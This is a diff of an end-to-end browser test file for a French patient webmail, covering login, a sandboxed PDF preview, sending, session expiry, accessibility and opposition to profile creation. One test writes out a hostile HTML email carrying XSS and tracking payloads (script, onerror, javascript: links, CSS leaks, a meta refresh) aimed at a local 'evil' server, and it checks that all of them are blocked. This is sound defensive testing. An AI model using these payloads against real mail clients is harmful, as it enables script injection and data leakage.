@@ -1,11 +1,17 @@
 // The patient webmail in Debian's Chromium (playwright-core, never a downloaded browser) against the real
 // server: French page at `/`, login with the INS and password (Enter), then the e-mailed code (Enter), then the
-// inbox with the subject of a message delivered over SMTP.
-import { chromium, type Browser, type Page } from 'playwright-core';
+// inbox with the subject of a message delivered over SMTP; the PDF viewer, a hostile HTML body, the sent folder,
+// a new message, an ended session, keyboard-only use and a phone-sized screen.
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import MailComposer from 'nodemailer/lib/mail-composer/index.js';
+import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { makeTestIns } from '../../access/rules/ins.js';
+import { makePdf } from '../support/pdf.js';
 import { freePort } from '../support/ports.js';
 import { importPatientsCsv, readLoginCode, sendMail, startTestGateway, waitFor, type TestGateway } from '../support/harness.js';
+import { launchChromium, signInPage } from '../support/browser.js';
 
 let t: TestGateway;
 let browser: Browser;
@@ -16,27 +22,40 @@ beforeAll(async () => {
   t = await startTestGateway({ env: { RELAY_ROUTES: `hopital-a.mssante.fr=127.0.0.1:${await freePort()}` } });
   await importPatientsCsv(t, `ins,family_name,given_names,birth_date,email,state,provisional_code\n${P.ins},TEST-WEB,W,${P.birthDate},${P.email},created,${P.provisionalCode}\n`);
   expect((await sendMail({ port: t.gw.smtpPort!, pki: t.pki, cert: 'hopital-a.mssante.fr', from: 'dr.web@hopital-a.mssante.fr', to: [`${P.ins}@patient.mssante.fr`], subject: 'Résultats de votre prise de sang' })).ok).toBe(true);
-  browser = await chromium.launch({
-    executablePath: '/usr/bin/chromium',
-    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
-  });
+  browser = await launchChromium();
 });
 afterAll(async () => {
   await browser?.close();
   await t?.close();
 });
 
-/** The contract's login: INS and password submitted with Enter, then the e-mailed code submitted with Enter. */
-async function signIn(page: Page): Promise<void> {
-  await page.fill('#ins', P.ins);
-  await page.fill('#password', P.password);
-  await page.press('#password', 'Enter');
-  const code = page.locator('input[autocomplete="one-time-code"]');
-  await code.waitFor({ timeout: 15_000 });
-  const otp = await waitFor(async () => readLoginCode(t.dataDir, P.email).catch(() => null), 10_000, 'the code e-mail');
-  await code.fill(otp);
-  await code.press('Enter');
+const ORIGIN = () => `http://127.0.0.1:${t.gw.apiPort}`;
+const pro = (from: string) => ({ port: t.gw.smtpPort!, pki: t.pki, cert: 'hopital-a.mssante.fr' as const, from, to: [`${P.ins}@patient.mssante.fr`] });
+
+/** A complete MIME message (HTML alternative, attachments) built by nodemailer's composer, sent as raw bytes. */
+async function sendComposed(from: string, mail: { subject: string; text: string; html?: string; attachments?: { filename: string; content: Buffer; contentType: string; cid?: string }[] }) {
+  const raw = await new MailComposer({ from, to: `${P.ins}@patient.mssante.fr`, ...mail }).compile().build();
+  const r = await sendMail({ ...pro(from), raw });
+  expect(r.ok, r.response).toBe(true);
 }
+
+async function openSignedIn(): Promise<Page> {
+  const page = await browser.newPage();
+  await page.goto(`${ORIGIN()}/`);
+  await signIn(page);
+  await page.locator('#inbox, .empty').first().waitFor({ timeout: 15_000 });
+  return page;
+}
+
+async function openMessage(page: Page, subject: string): Promise<void> {
+  await page.goto(`${ORIGIN()}/#/messages`);
+  const link = page.locator('#inbox a.subject', { hasText: subject });
+  await waitFor(async () => ((await link.count()) > 0 ? true : (await page.reload(), null)), 20_000, `message "${subject}" in the inbox`);
+  await link.first().click();
+  await page.locator('#message-title').waitFor({ timeout: 10_000 });
+}
+
+const signIn = (p: Page) => signInPage(p, t, P);
 
 describe('webmail', () => {
   it('activates the profile with the provisional code and birth date', async () => {
@@ -96,6 +115,191 @@ describe('webmail', () => {
     await page.fill('#password', 'pas-le-bon-mot-de-passe');
     await page.press('#password', 'Enter');
     await expect(page.locator('[role="alert"]').filter({ hasText: /incorrect/ }).first().waitFor({ timeout: 10_000 })).resolves.toBeUndefined();
+    await page.close();
+  }, 60_000);
+
+  it('previews a PDF attachment with pdf.js in a sandboxed frame, and downloads it', async () => {
+    await sendComposed('dr.pdf@hopital-a.mssante.fr', {
+      subject: 'Votre compte rendu en PDF',
+      text: 'Veuillez trouver votre compte rendu.',
+      attachments: [{ filename: 'compte-rendu.pdf', content: makePdf(['Compte rendu page 1', 'Page 2']), contentType: 'application/pdf' }],
+    });
+    const page = await openSignedIn();
+    await openMessage(page, 'Votre compte rendu en PDF');
+    await page.getByRole('button', { name: 'Aperçu de compte-rendu.pdf' }).click();
+    await page.getByRole('status').filter({ hasText: 'compte-rendu.pdf : 2 pages' }).waitFor({ timeout: 20_000 });
+    const frame = page.locator('iframe.pdf-viewer');
+    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');
+    const canvases = page.frameLocator('iframe.pdf-viewer').locator('canvas');
+    expect(await canvases.count()).toBe(2);
+    // the page was really drawn: the blue rectangle's pixels are there
+    const painted = await canvases.first().evaluate((c: HTMLCanvasElement) => {
+      const d = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
+      let blue = 0;
+      for (let i = 0; i < d.length; i += 4) if (d[i + 2]! > 150 && d[i]! < 100) blue += 1;
+      return blue;
+    });
+    expect(painted).toBeGreaterThan(100);
+    // the sandboxed viewer cannot reach the app: it has an opaque origin
+    const viewer = page.frames().find((f) => f.url().endsWith('/assets/viewers/pdf.html'))!;
+    expect(await viewer.evaluate(() => window.origin)).toBe('null');
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Télécharger compte-rendu.pdf' }).click()]);
+    expect(download.suggestedFilename()).toBe('compte-rendu.pdf');
+    await page.close();
+  }, 90_000);
+
+  it('renders a hostile HTML body: nothing runs, nothing loads, the text and inline styles stay', async () => {
+    const hits: string[] = [];
+    const tracker = http.createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.end('x');
+    });
+    await new Promise<void>((r) => tracker.listen(0, '127.0.0.1', r));
+    const evil = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
+    const html = `<html><head><style>@import url(${evil}/import.css); body { background: url(${evil}/style-bg.png) }
+      @font-face { font-family: x; src: url(${evil}/font.woff) } input[value^="a"] { background-image: url(${evil}/leak-a) }</style>
+      <link rel="stylesheet" href="${evil}/link.css"><meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/"></head>
+      <body><p id="styled" style="color: rgb(200, 0, 0); background-image: url(${evil}/inline-bg.png)">Texte visible du message</p>
+      <script>parent.document.title = 'PWNED'; fetch('${evil}/script')</script>
+      <img src="x" onerror="parent.document.body.setAttribute('data-pwned', '1'); new Image().src='${evil}/onerror'">
+      <img src="${evil}/track.png" alt="pixel"><img srcset="${evil}/srcset.png 1x">
+      <div style="background: image-set('${evil}/image-set.png' 1x)">fond</div>
+      <a id="jslink" href="javascript:parent.document.body.setAttribute('data-pwned','2')">lien</a>
+      <svg><script>parent.document.title='PWNED-SVG'</script><image href="${evil}/svg.png"/></svg>
+      <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><video poster="${evil}/poster.png"></video>
+      <form action="${evil}/form"><input name="q" value="abc"><button>ok</button></form>
+      <details open ontoggle="parent.document.body.setAttribute('data-pwned','3')"><summary>s</summary></details>
+      </body></html>`;
+    await sendComposed('dr.html@hopital-a.mssante.fr', { subject: 'Message HTML hostile', text: 'Texte visible du message', html });
+    const page = await openSignedIn();
+    const requests: string[] = [];
+    page.on('request', (r) => requests.push(r.url()));
+    const dialogs: string[] = [];
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
+    await openMessage(page, 'Message HTML hostile');
+    const body = page.frameLocator('iframe.mail-html');
+    await body.getByText('Texte visible du message').waitFor({ timeout: 10_000 });
+    await page.locator('#blocked-content').getByText('ont été bloqués').waitFor({ timeout: 5_000 });
+    expect(await page.locator('iframe.mail-html').getAttribute('sandbox')).not.toContain('allow-scripts');
+    // inline styles survive through the CSSOM (the page's CSP forbids style attributes in markup)
+    expect(await body.locator('#styled').evaluate((e) => getComputedStyle(e).color)).toBe('rgb(200, 0, 0)');
+    const left = await body.locator('body').locator('script, iframe, object, form, input, svg, link, meta, base').evaluateAll((els) => els.map((e) => e.outerHTML));
+    expect(left).toEqual([]);
+    await body.locator('#jslink').click().catch(() => undefined);
+    await page.waitForTimeout(1500);
+    expect(await page.title()).not.toContain('PWNED');
+    expect(await page.locator('body').getAttribute('data-pwned')).toBeNull();
+    expect(dialogs).toEqual([]);
+    expect(hits).toEqual([]);
+    expect(requests.filter((u) => u.startsWith(evil))).toEqual([]);
+    await page.close();
+    tracker.close();
+  }, 90_000);
+
+  it('writes to a professional who wrote first, and lists it under sent messages', async () => {
+    const page = await openSignedIn();
+    await page.getByRole('link', { name: 'Écrire', exact: true }).click();
+    await page.locator('#new-to').waitFor({ timeout: 10_000 });
+    const options = await page.locator('#new-to option').allTextContents();
+    expect(options.length).toBeGreaterThan(0);
+    // the professional who ended the exchange with [FIN] is not offered
+    expect(options.join('|')).not.toMatch(/dr\.fin/);
+    await page.selectOption('#new-to', { index: 0 });
+    await page.fill('#new-subject', 'Question sur mon traitement');
+    await page.fill('#new-text', 'Bonjour, puis-je prendre mon traitement le soir ?');
+    await page.getByRole('button', { name: 'Envoyer' }).click();
+    await page.getByRole('status').filter({ hasText: 'Votre message a été envoyé' }).waitFor({ timeout: 15_000 });
+    await page.getByRole('link', { name: 'Messages envoyés' }).click();
+    await page.locator('#sent a.subject', { hasText: 'Question sur mon traitement' }).waitFor({ timeout: 10_000 });
+    await page.locator('#sent a.subject', { hasText: 'Question sur mon traitement' }).click();
+    await page.getByText('Bonjour, puis-je prendre mon traitement le soir ?').waitFor({ timeout: 10_000 });
+    expect(await page.locator('#reply-form').count()).toBe(0);
+    await page.close();
+  }, 60_000);
+
+  it('when the session ends, asks to log in again, returns to the same message and keeps the draft', async () => {
+    const page = await openSignedIn();
+    await openMessage(page, 'Votre compte rendu en PDF');
+    const url = page.url();
+    await page.fill('#reply-text', 'Brouillon à ne pas perdre');
+    await page.context().clearCookies();
+    await page.getByRole('button', { name: 'Envoyer' }).click();
+    await page.locator('[role="alert"]').filter({ hasText: 'Votre session a expiré' }).waitFor({ timeout: 10_000 });
+    await signIn(page);
+    await page.locator('#reply-text').waitFor({ timeout: 15_000 });
+    expect(page.url()).toBe(url);
+    expect(await page.inputValue('#reply-text')).toBe('Brouillon à ne pas perdre');
+    await page.close();
+  }, 60_000);
+
+  it('can be used with the keyboard only: log in, open a message, reply', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${ORIGIN()}/`);
+    await page.locator('#ins').waitFor();
+    // the first field has the focus: type, Tab, type, Enter
+    await page.keyboard.type(P.ins);
+    await page.keyboard.press('Tab');
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe('password');
+    await page.keyboard.type(P.password);
+    await page.keyboard.press('Enter');
+    await page.locator('#code').waitFor({ timeout: 15_000 });
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe('code');
+    const otp = await waitFor(async () => readLoginCode(t.dataDir, P.email).catch(() => null), 10_000, 'the code e-mail');
+    await page.keyboard.type(otp);
+    await page.keyboard.press('Enter');
+    await page.locator('#inbox').waitFor({ timeout: 15_000 });
+    const reach = async (test: () => boolean, what: string) => {
+      for (let i = 0; i < 40; i += 1) {
+        await page.keyboard.press('Tab');
+        if (await page.evaluate(test)) return;
+      }
+      throw new Error(`${what} not reachable with Tab`);
+    };
+    await reach(() => document.activeElement?.textContent === 'Votre compte rendu en PDF', 'the message link');
+    await page.keyboard.press('Enter');
+    await page.locator('#message-title').waitFor({ timeout: 10_000 });
+    await reach(() => document.activeElement?.id === 'reply-text', 'the reply field');
+    await page.keyboard.type('Réponse au clavier');
+    await reach(() => document.activeElement?.textContent === 'Envoyer', 'the send button');
+    await page.keyboard.press('Enter');
+    await page.getByText('Votre réponse a été envoyée.').waitFor({ timeout: 15_000 });
+    await page.close();
+  }, 90_000);
+
+  it('fits a phone-sized screen without horizontal scrolling', async () => {
+    const context = await browser.newContext({ viewport: { width: 360, height: 740 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
+    const page = await context.newPage();
+    await page.goto(`${ORIGIN()}/`);
+    await signIn(page);
+    await page.locator('#inbox').waitFor({ timeout: 15_000 });
+    const overflow = async () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+    expect(await overflow()).toBeLessThanOrEqual(0);
+    await openMessage(page, 'Votre compte rendu en PDF');
+    expect(await overflow()).toBeLessThanOrEqual(0);
+    await context.close();
+  }, 60_000);
+
+  it('lets a patient in the 6-week window oppose the creation of the profile', async () => {
+    const O = { ins: makeTestIns(9502), birthDate: '1990-02-02', code: 'PROV-WEB-9502' };
+    await importPatientsCsv(t, `ins,family_name,given_names,birth_date,email,state,provisional_code\n${O.ins},TEST-WEB,O,${O.birthDate},o9502@example.org,pending,${O.code}\n`);
+    const page = await browser.newPage();
+    await page.goto(`${ORIGIN()}/`);
+    await page.click('#go-opposition');
+    await page.fill('#opp-ins', O.ins);
+    await page.fill('#opp-code', 'PAS-LE-BON');
+    await page.fill('#opp-birth', O.birthDate);
+    await page.press('#opp-birth', 'Enter');
+    await page.locator('[role="alert"]').filter({ hasText: 'Opposition impossible' }).waitFor({ timeout: 10_000 });
+    await page.fill('#opp-code', O.code);
+    await page.getByRole('button', { name: "Je m'oppose à la création de mon profil" }).click();
+    await page.getByText('Votre opposition est enregistrée').waitFor({ timeout: 10_000 });
+    // the gateway now answers for this INS exactly as for an unknown one
+    const r = await sendMail({ ...pro('dr.web@hopital-a.mssante.fr'), to: [`${O.ins}@patient.mssante.fr`] });
+    expect(r.ok).toBe(false);
+    expect(r.response).toMatch(/^550 5\.1\.1/);
     await page.close();
   }, 60_000);
 });
